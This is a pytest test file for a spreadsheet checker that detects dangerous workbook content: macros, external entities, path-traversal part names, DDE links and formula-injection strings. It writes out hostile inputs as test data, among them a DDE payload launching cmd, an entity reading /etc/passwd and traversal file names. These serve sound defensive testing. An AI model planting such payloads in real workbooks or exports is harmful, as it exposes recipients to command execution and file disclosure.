"""KAL8xx: what may harm the one who opens a workbook, broken, kept and on the edge."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from functools import cache

import pytest

import builders as b
import workbooks as w
from facts import RULES
from kalkyl.base.limits import EMPTY_ROWS
from kalkyl.figures.formula_like import for_csv, is_formula_like, starts_program
from kalkyl.io.xlsx.package import leads_out
from kalkyl.io.xlsx.read import receive_bytes
from kalkyl.model import Finding, Problem, ProblemKind, Received, Report, Source
from kalkyl.operations.check import check
from kalkyl.rules.catalogue import Expected
from kalkyl.rules.register import CATALOGUE
from kalkyl.wording.messages import message
from shipped_organisation import case_of

REL = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VND = "application/vnd.openxmlformats-officedocument.spreadsheetml."
DDE = "=cmd|'/c calc'!A1"


@cache
def parts() -> Mapping[str, bytes]:
    """The parts of Kansli's workbook, which kalkyl has nothing to say of."""
    with zipfile.ZipFile(io.BytesIO(b.filled())) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(content: Mapping[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in content.items():
            package.writestr(name, part)
    return file.getvalue()


def judged(content: Mapping[str, bytes], name: str = "110.xlsx") -> Report:
    report = check(case_of(receive_bytes(name, packed(content)), Expected()), CATALOGUE)
    assert not report.broke, report.broke
    return report


def codes(content: Mapping[str, bytes], name: str = "110.xlsx") -> list[str]:
    return [one.code for one in judged(content, name).findings]


def said(finding: Finding, language: str = "sv") -> str:
    return message(RULES[finding.code], finding, language)


def having(**more: bytes) -> dict[str, bytes]:
    """The workbook with other parts, ``xl__a_bin`` for ``xl/a.bin``."""
    added = {name.replace("__", "/").replace("_", "."): part for name, part in more.items()}
    return {**parts(), **added}


def spliced(part: str, before: str, inserted: str) -> dict[str, bytes]:
    old = parts()[part]
    assert before.encode() in old, part
    return {**parts(), part: old.replace(before.encode(), (inserted + before).encode(), 1)}


def typed(part: str, kind: str) -> dict[str, bytes]:
    """The workbook with a part of its own name and a content type that tells what it is."""
    content = spliced(
        "[Content_Types].xml",
        "</Types>",
        f'<Override PartName="/{part}" ContentType="{kind}"/>',
    )
    return {**content, part: b"<a/>"}


@cache
def comment() -> str:
    """A cell for a text of the department's own."""
    reading = w.case(w.clean()).reading
    assert reading is not None
    row = reading.submission.rows["investments"][0]
    return str(reading.placing.place(("investments", row, "comment")))


def of_text(text: str) -> list[str]:
    return [code for code, _ in w.findings(w.typed(w.clean(), {comment(): text}))]


def of_problem(kind: str, **facts: str) -> w.Found:
    received = Received(Source("110.xlsx"), None, (Problem(ProblemKind(kind), None, facts),))
    return w.told(check(case_of(received, Expected()), CATALOGUE))


def test_the_workbook_itself_is_clean() -> None:
    assert codes(parts()) == []


# KAL801–KAL803: what is not read at all


@pytest.mark.parametrize(
    ("code", "kind", "fact"),
    [
        ("KAL801", "too_large", "limit"),
        ("KAL802", "forbidden_xml", "part"),
        ("KAL803", "odd_part", "part"),
    ],
)
def test_a_dangerous_file_is_told_and_not_read(code: str, kind: str, fact: str) -> None:
    facts = {"what": "bytes", "found": "2", "limit": "1", "why": "finns två gånger"}
    assert of_problem(kind, **{**facts, fact: "xl/workbook.xml"}) == [(code, "")]


def test_kal802_an_external_entity_is_not_followed() -> None:
    sheet = parts()["xl/worksheets/sheet1.xml"]
    head, _, rest = sheet.partition(b"?>")
    entity = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    assert codes(having() | {"xl/worksheets/sheet1.xml": head + b"?>" + entity + rest}) == [
        "KAL802"
    ]


@pytest.mark.parametrize(
    "name",
    [
        "../../start.bat",
        "xl/../../x",
        "..\\x",
        "/etc/passwd",
        "\\\\server\\share\\x",
        "C:\\x",
        "c:x",
        "xl/a\nb.xml",
        "xl/a\x00.exe",
    ],
)
def test_kal803_names_that_lead_out(name: str) -> None:
    assert leads_out(name)
    if "\x00" not in name:  # Python's writer would end the name there
        assert codes({**parts(), name: b"x"}) == ["KAL803"]


@pytest.mark.parametrize(
    "name", ["xl/a..b.xml", "xl\\worksheets\\sheet99.xml", "/xl/a.xml", "xl/å.xml", "a...", "x/.y"]
)
def test_kal803_careless_names_lead_nowhere(name: str) -> None:
    assert not leads_out(name)
    assert codes({**parts(), name: b"x"}) == []


def test_kal803_a_name_with_a_nul() -> None:
    content = packed(having() | {"xl/aQ.exe": b"x"}).replace(b"xl/aQ.exe", b"xl/a\x00.exe")
    report = check(case_of(receive_bytes("110.xlsx", content), Expected()), CATALOGUE)
    assert w.told(report) == [("KAL803", "")]


def test_kal803_a_part_with_two_names() -> None:
    """The directory at the end says one thing, the header beside the part another."""
    content = packed(parts())
    at = content.index(b"xl/worksheets/sheet1.xml")
    other = content[:at] + b"xl/worksheets/sheet2.xml" + content[at + 24 :]
    report = check(case_of(receive_bytes("110.xlsx", other), Expected()), CATALOGUE)
    assert w.told(report) == [("KAL803", "")]


def test_kal803_says_little_of_a_long_name() -> None:
    [finding] = judged({**parts(), "../" + "x" * 60_000: b""}).findings
    assert finding.code == "KAL803"
    assert len(said(finding)) < 250


# KAL804–KAL805: macros


def test_kal804_macros_in_a_file_that_says_so() -> None:
    content = having(xl__vbaProject_bin=b"macros")
    assert codes(content, "110.xlsm") == ["KAL804"]
    assert codes(content, "110.XLSX") == ["KAL805"]


@pytest.mark.parametrize(
    ("kind", "name", "code"),
    [
        ("application/vnd.ms-office.vbaProject", "110.xlsm", "KAL804"),
        ("application/vnd.ms-office.vbaProject", "110.xlsx", "KAL805"),
        ("application/vnd.ms-excel.macrosheet+xml", "110.xlsm", "KAL805"),
        ("application/vnd.ms-excel.intlmacrosheet+xml", "110.xlsx", "KAL805"),
        (VND + "connections+xml", "110.xlsx", "KAL807"),
        (VND + "queryTable+xml", "110.xlsx", "KAL807"),
        ("application/vnd.openxmlformats-officedocument.oleObject", "110.xlsx", "KAL808"),
        ("application/vnd.ms-office.activeX+xml", "110.xlsx", "KAL808"),
        ("application/vnd.ms-excel.controlproperties+xml", "110.xlsx", "KAL808"),
    ],
)
def test_a_part_is_known_by_its_type_whatever_its_name(kind: str, name: str, code: str) -> None:
    assert codes(typed("xl/media/bild.png", kind), name) == [code]


def test_a_default_type_that_no_part_has_is_nobodys() -> None:
    default = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    content = spliced("[Content_Types].xml", "</Types>", default)
    assert codes(content) == []
    assert codes({**content, "xl/any.bin": b"x"}) == ["KAL805"]


def test_printer_settings_are_no_macros() -> None:
    kind = VND + "printerSettings"
    assert codes(typed("xl/printerSettings/printerSettings1.bin", kind)) == []


# KAL806, programs


def external(link: str) -> dict[str, bytes]:
    relation = f'<Relationship Id="rX" Type="{OFFICE}/externalLink" Target="externalLinks/e.xml"/>'
    content = spliced("xl/_rels/workbook.xml.rels", "</Relationships>", relation)
    body = f'<externalLink xmlns:r="{OFFICE}">{link}</externalLink>'
    return {**content, "xl/externalLinks/e.xml": body.encode()}


def test_kal806_a_dde_link() -> None:
    report = judged(external('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'))
    assert w.told(report) == [("KAL806", "")]
    assert "”cmd|/c calc”" in said(report.findings[0])


def test_kal806_an_ole_link() -> None:
    assert codes(external('<oleLink progId="Word.Document"/>')) == ["KAL806"]


def test_kal806_a_link_to_a_workbook_is_none() -> None:
    assert codes(external("<externalBook/>")) == []


def with_formula(formula: str) -> dict[str, bytes]:
    """The workbook with a formula far from its tables."""
    row = f'<row r="5000"><c r="A5000"><f>{formula}</f><v>0</v></c></row>'
    return spliced("xl/worksheets/sheet1.xml", "</sheetData>", row)


@pytest.mark.parametrize(
    ("formula", "found"),
    [
        ("cmd|'/c calc'!A1", ["KAL806"]),
        ("'cmd'|'x'!A1", ["KAL806"]),
        ('DDE("soffice","x","a1")', ["KAL806"]),
        ('RTD("prog",,"x")', ["KAL806"]),
        ('1+call("kernel32","x","J")', ["KAL806"]),
        ('_xlfn.WEBSERVICE("http://x/?"&amp;B3)', ["KAL812"]),
        ('IF(A1=1,"a|b!c","Call (x)")', []),
        ("'a|b'!A1+'IMAGE (1)'!A1", []),
        ("RECALL(1)+SUM(A1:A3)", ["KAL813"]),
    ],
)
def test_kal806_and_kal812_formulas_that_call_out(formula: str, found: list[str]) -> None:
    report = judged(with_formula(formula))
    assert w.told(report) == [(code, "Omslag!A5000") for code in found]


@pytest.mark.parametrize("text", [DDE, "@a|b!c", "-2+3+cmd|' /C calc'!A0", "\t= msexcel|'x'!''"])
def test_kal806_a_text_that_would_start_a_program(text: str) -> None:
    assert of_text(text) == ["KAL806"]


# KAL807, KAL808


def test_kal807_tells_the_address_of_a_web_query_and_not_all_of_it() -> None:
    relation = f'<Relationship Id="rX" Type="{OFFICE}/connections" Target="connections.xml"/>'
    content = spliced("xl/_rels/workbook.xml.rels", "</Relationships>", relation)
    address = "http://exempel.test/" + "x" * 500
    content["xl/connections.xml"] = (
        f'<connections><connection name="Fråga"><webPr url="{address}"/></connection>'
        '<connection name="Två"/></connections>'
    ).encode()
    [finding] = judged(content).findings
    assert finding.code == "KAL807"
    assert "http://exempel.test/" in said(finding)
    assert "x" * 40 not in said(finding)
    assert "and 1 more" in said(finding, "en")


@pytest.mark.parametrize("part", ["xl__queryTables__queryTable1_xml", "xl__connections_xml"])
def test_kal807_by_name_alone(part: str) -> None:
    assert codes(having(**{part: b"<a/>"})) == ["KAL807"]


@pytest.mark.parametrize(
    "part",
    ["xl__embeddings__oleObject1_bin", "xl__activeX__activeX1_xml", "customUI__customUI_xml"],
)
def test_kal808_what_is_carried_along(part: str) -> None:
    assert codes(having(**{part: b"x"})) == ["KAL808"]


def test_kal808_a_ribbon_by_its_relationship() -> None:
    kind = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
    relation = f'<Relationship Id="rX" Type="{kind}" Target="xl/x.xml"/>'
    assert codes(spliced("_rels/.rels", "</Relationships>", relation)) == ["KAL808"]


def test_kal808_form_controls_are_told_of_in_our_own_template_alone() -> None:
    content = having(xl__ctrlProps__ctrlProp1_xml=b"<a/>")
    assert codes(content) == ["KAL808"]
    case = case_of(receive_bytes("x.xlsx", packed(content)), Expected())
    assert case.reading is not None
    assert not case.reading.placing.foreign


# KAL809: texts like formulas

LIKE = [
    '=HYPERLINK("http://x.test","klicka")',
    "@SUM(1+1)",
    "+SUM(B3:B5)",
    "-SUMMA(B3:B5)",
    "=SUMMA(B3:B5)",
    "=B3",
    "= B3 ",
    "=Prognos!B3+C4",
    "='Blad 1'!$A$1",
    "\t=1+1",
    "\r=SUM(A1)",
    "＝SUM(A1)",
    "+B3*2",
    "-2+3",
    "-2+3+SUM(A1)",
    '="a"&B3',
    "=okänd(1)",
    "=(1+2)*3",
]
ORDINARY = [
    "+10,6",
    "−5,5",
    "−5,5 mnkr",
    "-5",
    "-1 250",
    "-12 345,5 tkr",
    "-",
    "–5",
    "+",
    "+/-0",
    "+4,2 mnkr i Regionkontoret",
    "+10,6 (prognos 2)",
    "+2-3 tjänster",
    "+46 35 123 45",
    "- punkt ett",
    "-\n- punkt två",
    "- Lön (se ovan)",
    "-Personal(deltid) ökar",
    "-5 % av budget",
    "- 5,5 | 6!",
    "--",
    "-- slut",
]
PROSE = ["=", "=> se bilagan", "=====", "= 5,5 mnkr", "@anna kollar"]


@pytest.mark.parametrize("text", LIKE)
def test_kal809_a_text_like_a_formula(text: str) -> None:
    assert is_formula_like(text)
    assert not starts_program(text)
    assert of_text(text) == ["KAL809"]


@pytest.mark.parametrize("text", ORDINARY + PROSE)
def test_kal809_figures_and_bullet_points_are_ordinary_texts(text: str) -> None:
    assert not is_formula_like(text)
    assert of_text(text) == []


@pytest.mark.parametrize("text", [*ORDINARY, "-305010", "18.304", "a=b", "Lön; -5,5", "12:30"])
def test_csv_leaves_figures_and_words_alone(text: str) -> None:
    assert for_csv(text) == text


@pytest.mark.parametrize("text", [*LIKE, *PROSE, DDE])
def test_csv_disarms_what_would_be_computed(text: str) -> None:
    assert "'" + text.lstrip() in for_csv(text)


@pytest.mark.parametrize("between", [";", "\t", "\n", "\r\n"])
def test_csv_disarms_what_follows_a_separator(between: str) -> None:
    assert for_csv(f"Lön{between}{DDE}") == f"Lön{between}'{DDE}"


@pytest.mark.parametrize(
    "text", ["=" + "(" * 9_000, "=" + "a" * 9_000, "-" + "1-" * 5_000 + "x", "=A1" + "- " * 5_000]
)
def test_a_long_text_is_judged_at_once(text: str) -> None:
    for_csv(text)
    assert not starts_program(text)


# KAL810, KAL811


def test_kal810_a_sheet_that_goes_on_and_on() -> None:
    last = max(row for row, _ in w.clean().sheets[0].cells)
    for more, found in ((0, []), (1, ["KAL810"])):
        row = f'<row r="{last + EMPTY_ROWS + more}" ht="15"/>'
        assert codes(spliced("xl/worksheets/sheet1.xml", "</sheetData>", row)) == found


@pytest.mark.parametrize(
    ("name", "found"),
    [
        ("../../Listor", ["KAL811"]),
        ("C:\\x", ["KAL811"]),
        ("a\x1b[2Jb", ["KAL811"]),
        ("x" * 32, ["KAL811"]),
        ("x" * 31, []),
        ("Listor (2) & å", []),
    ],
)
def test_kal811_sheet_names(name: str, found: list[str]) -> None:
    assert [code for code, _ in w.findings(w.renamed(w.clean(), "Listor", name))] == found
